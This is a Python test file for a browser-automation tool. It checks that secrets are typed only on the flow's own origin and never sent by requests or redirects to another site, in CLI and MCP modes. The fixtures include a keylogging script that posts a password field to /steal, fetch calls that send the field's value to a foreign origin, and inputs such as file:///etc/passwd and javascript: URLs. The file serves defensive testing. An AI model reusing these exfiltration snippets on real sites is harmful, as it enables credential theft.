"""Issue 13, secrets and origins: a secret is typed only into the flow's origin, checked in the element's
own frame at the moment of typing; requests carrying it to another origin are blocked; a `do` whose
start page moves to another site is refused. 127.0.0.1 and localhost are two origins of one server."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from playwright.sync_api import Page

from webmem.errors import OriginError
from webmem.flow.flowfile import parse_flow
from webmem.flow.inputs import Redactor
from webmem.page import guard
from webmem.playback.run import RunOptions, run_flow

from .test_hostile_files import flow_text

SECRET = "hunter2~x"
FOREIGN_FORM = """<title>sign in</title><form method=post action=/steal>
<input id=pw name=pw><button id=go>Go</button></form>
<script>document.getElementById('pw').addEventListener('input', (e) =>
  fetch('/steal', {method: 'POST', body: e.target.value}))</script>"""


def foreign(url: str) -> str:
    return url.replace("127.0.0.1", "localhost")


def stolen(hostile) -> list[bytes]:
    return [body + path.encode() for _, path, body in hostile.requests
            if path.startswith("/steal") and (b"hunter2" in body or "hunter2" in path)]


def test_a_secret_is_never_typed_into_a_frame_of_another_origin(page: Page, hostile) -> None:
    hostile.pages["/"] = FOREIGN_FORM
    page.goto(foreign(hostile.url) + "/")
    with pytest.raises(OriginError, match="refusing to type a secret into http://localhost"):
        guard.fill_secret(page.locator("#pw"), SECRET, hostile.url, Redactor([SECRET]))
    assert page.locator("#pw").input_value() == "" and not stolen(hostile)


def test_the_secret_never_leaves_for_another_origin(page: Page, hostile) -> None:
    hostile.pages["/"] = (f"<title>sign in</title><form method=post action={foreign(hostile.url)}/steal>"
                          "<input id=pw name=pw><button id=go>Go</button></form>"
                          f"<img id=beacon>")
    page.goto(hostile.url + "/")
    guard.fill_secret(page.locator("#pw"), SECRET, hostile.url, Redactor([SECRET]))
    assert page.locator("#pw").input_value() == SECRET  # on its own origin it is typed
    page.evaluate("(u) => fetch(u + '/steal?pw=' + encodeURIComponent(document.getElementById('pw').value))"
                  ".catch(() => null)", foreign(hostile.url))
    page.evaluate("(u) => fetch(u + '/steal-ok?x=1').catch(() => null)", foreign(hostile.url))
    page.click("#go")
    page.wait_for_timeout(300)
    assert not stolen(hostile), stolen(hostile)
    assert any(path.startswith("/steal-ok") for _, path, _ in hostile.requests)  # other requests still go
    # the flow's own origin is not slowed down or blocked
    page.goto(hostile.url + "/", timeout=5000)


def test_a_page_that_moves_itself_to_another_origin_gets_no_secret(page: Page, hostile) -> None:
    hostile.pages["/"] = FOREIGN_FORM.replace("/steal", "/local") + (
        f"<script>setTimeout(() => location.href = '{foreign(hostile.url)}/foreign', 30)</script>")
    hostile.pages["/foreign"] = FOREIGN_FORM
    text = flow_text(base_url=hostile.url, inputs="inputs:\n  pw: {secret: true}\n",
                     steps="  - goto: /\n  - fill: {target: {intent: the password, selectors: ['css=#pw']}, "
                           "value: '{{ pw }}'}\n")
    flow, _ = parse_flow(text)
    for _ in range(6):
        run_flow(page, flow, {"pw": SECRET}, RunOptions(base_url=hostile.url))
        page.wait_for_timeout(100)
    assert not stolen(hostile), stolen(hostile)


def test_do_refuses_a_start_page_that_redirects_to_another_site(webmem_cli, tmp_path: Path, hostile) -> None:
    hostile.pages["/"] = f"<title>x</title><script>location.href = '{foreign(hostile.url)}/foreign'</script>"
    hostile.pages["/foreign"] = FOREIGN_FORM
    proc = webmem_cli("do", hostile.url + "/", "--task", "Sign in", "--secret", "pw=HZ_PW",
                      "--store", str(tmp_path / "store"), "--agent", "heuristic", env={"HZ_PW": SECRET})
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "moved to another site" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert not stolen(hostile)
    assert not list((tmp_path / "store").glob("*.yaml"))


def test_memory_do_refuses_a_non_web_url_before_opening_it(page: Page, tmp_path: Path) -> None:
    from webmem import Memory
    from webmem.errors import InputError

    for url in ("file:///etc/passwd", "javascript:alert(1)", "http://[::1"):
        with pytest.raises(InputError, match="is not a web address"):
            Memory(tmp_path, agent="heuristic").do(page, "read it", {}, url=url)
    assert page.url == "about:blank"


# ---- issue 22: recording, redirects, MCP -------------------------------------------------------------------


def test_recording_types_a_secret_only_on_the_tasks_site_and_guards_it(page: Page, hostile) -> None:
    """A person's or an agent's recording types a secret through the one guarded fill: into a page that left
    the task's site, never; on the site, typed, and no request carries it to another origin."""
    from webmem.flow.model import InputSpec
    from webmem.learn.record import Recorder

    hostile.pages["/"] = FOREIGN_FORM.replace("/steal", "/local")
    hostile.pages["/foreign"] = FOREIGN_FORM
    rec = Recorder(page, name="s", task="sign in", inputs={"pw": SECRET}, specs={"pw": InputSpec(secret=True)},
                   base_url=hostile.url)
    rec.goto("/")
    rec.fill(page.locator("#pw"), "{{ pw }}")
    assert page.locator("#pw").input_value() == SECRET  # on the task's site it is typed
    page.evaluate("(u) => fetch(u + '/steal?pw=' + encodeURIComponent(document.getElementById('pw').value))"
                  ".catch(() => null)", foreign(hostile.url))
    page.goto(foreign(hostile.url) + "/foreign")  # the page moved to another site
    with pytest.raises(OriginError, match="refusing to type a secret into http://localhost"):
        rec.fill(page.locator("#pw"), "{{ pw }}")
    page.wait_for_timeout(200)
    assert page.locator("#pw").input_value() == "" and not stolen(hostile), stolen(hostile)


@pytest.mark.parametrize("hops", [1, 2])
def test_a_secret_does_not_follow_a_redirect_to_another_site(page: Page, hostile, hops: int) -> None:
    """The flow's own origin answers the form post with a 307 to another site (at once, or after a 307 on the
    site): the browser would re-send the body there (a redirect is not routed), so the post is refused; a
    chain of redirects on the site is followed, each hop posted once."""
    hostile.pages["/"] = ("<title>sign in</title><form method=post action=/login>"
                          "<input id=pw name=pw><button id=go>Go</button></form>")
    hostile.pages["/ok"] = "<title>ok</title><p>welcome</p>"
    hostile.redirects["/login"] = (307, foreign(hostile.url) + "/steal") if hops == 1 else (307, "/login-2")
    hostile.redirects["/login-2"] = (308, foreign(hostile.url) + "/steal")
    hostile.redirects["/login-here"] = (307, "/login-there")
    hostile.redirects["/login-there"] = (303, "/ok")
    text = flow_text(base_url=hostile.url, inputs="inputs:\n  pw: {secret: true}\n",
                     steps="  - goto: /\n  - fill: {target: {intent: the password, selectors: ['css=#pw']}, "
                           "value: '{{ pw }}'}\n  - click: {target: {intent: go, selectors: ['css=#go']}}\n")
    flow, _ = parse_flow(text)
    run_flow(page, flow, {"pw": SECRET}, RunOptions(base_url=hostile.url))
    page.wait_for_timeout(200)
    assert any(path == "/login" for _, path, _ in hostile.requests)  # the site itself got its post
    assert not stolen(hostile), stolen(hostile)
    # a redirect that stays on the site is followed as before
    page.goto(hostile.url + "/")
    page.evaluate("document.querySelector('form').action = '/login-here'")
    guard.fill_secret(page.locator("#pw"), SECRET, hostile.url, Redactor([SECRET]))
    page.click("#go")
    page.wait_for_url("**/ok", timeout=5000)
    posted = [path for method, path, body in hostile.requests if method == "POST" and b"hunter2" in body]
    assert posted[-2:] == ["/login-here", "/login-there"] and posted.count("/login-there") == 1, posted


def test_an_allowlist_names_the_variables_a_flow_may_read_and_their_sites(webmem_cli, tmp_path: Path) -> None:
    """With `secret_env` in the config, a flow's env: secret is read only if allowed for the flow's site; the
    refusal names the variable, never its value; a malformed --secret-env is a usage error."""
    flow = tmp_path / "f.yaml"
    flow.write_text(flow_text(base_url="http://127.0.0.1:9", inputs="inputs:\n  pw: {secret: true, env: HZ_PW}\n"))
    config = tmp_path / "webmem.json"
    for allowed, says in [({"OTHER": ["http://127.0.0.1:9"]}, "$HZ_PW is not an allowed secret variable"),
                          ({"HZ_PW": ["https://127.0.0.1:9"]}, "$HZ_PW may not be typed into http://127.0.0.1:9")]:
        config.write_text(json.dumps({"secret_env": allowed}))
        proc = webmem_cli("run", str(flow), cwd=tmp_path, env={"HZ_PW": SECRET})
        text = proc.stdout + proc.stderr
        assert proc.returncode == 2 and says in text and "Traceback" not in text, text
        assert "hunter2" not in text
    bad = webmem_cli("mcp", "--secret-env", "HZ_PW=file:///etc", cwd=tmp_path, timeout=60)
    assert bad.returncode == 2 and "'file:///etc' is not an origin" in bad.stderr, bad.stderr


SESSION_START = "<title>start</title><h1>Start</h1><a href=/go>Go on</a>"
FOREIGN_SIGN_IN = FOREIGN_FORM.replace("<input id=pw", "<input id=pw aria-label=Password")


def test_mcp_secrets_come_only_from_allowed_variables_and_stay_on_the_tasks_site(
        hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`webmem mcp --secret-env HZ_PW=<site>`: any other variable, or another site, is refused by name; a session
    whose page left the site (a same-site redirect to another site) stops, the secret not typed; nothing the
    server writes or answers holds the secret in any encoding."""
    from .test_hostile_secrets import SECRET as ODD_SECRET
    from .test_hostile_secrets import leaks, written_leaks
    from .test_mcp import Agent, over_stdio, run, session_of

    hostile.pages["/"] = SESSION_START
    hostile.pages["/form"] = FOREIGN_SIGN_IN
    hostile.redirects["/go"] = (302, foreign(hostile.url) + "/form")
    store, log = tmp_path / "flows", tmp_path / "server.log"
    store.mkdir()
    (store / "elsewhere.yaml").write_text(flow_text(
        base_url=hostile.url, name="sign in elsewhere", inputs="inputs:\n  pw: {secret: true, env: HOME}\n"))
    monkeypatch.setenv("HZ_PW", ODD_SECRET)
    home, received = os.environ["HOME"], list[str]()

    async def body() -> None:
        async with over_stdio(store, log, "--secret-env", f"HZ_PW={hostile.url}") as client:
            agent = Agent(client)
            for args, says in [({"secrets": {"pw": "HOME"}}, "$HOME is not an allowed secret variable"),
                               ({"url": foreign(hostile.url) + "/", "secrets": {"pw": "HZ_PW"}},
                                f"$HZ_PW may not be typed into {foreign(hostile.url)}")]:
                failed, text = await agent.call("do", **{"task": "Sign in", "url": hostile.url + "/", **args})
                assert failed and says in text and home not in text, text
            failed, text = await agent.call("sign_in_elsewhere")  # a stored flow's env: is checked too
            assert failed and "$HOME is not an allowed secret variable" in text and home not in text, text
            sid = session_of(await agent.ok("do", task="Sign in", url=hostile.url + "/", secrets={"pw": "HZ_PW"}))
            _, text = await agent.call("goto", session=sid, url="/go")  # a same-site redirect to another site
            if "Password" in text:  # still recording there: the client types the secret
                await agent.call("fill", session=sid, element=agent.element("textbox", "Password"), value="{{ pw }}")
            assert f"left the task's site {hostile.url} for {foreign(hostile.url)}" in text, text
            failed, text = await agent.call("snapshot", session=sid)
            assert failed and "closed" in text, text
            received.extend(agent.received)

    run(body, limit=120)
    assert not stolen(hostile), stolen(hostile)
    assert not [t for t in received if leaks(t)]  # the MCP results; the store, its index and the log:
    assert not written_leaks(tmp_path), written_leaks(tmp_path)
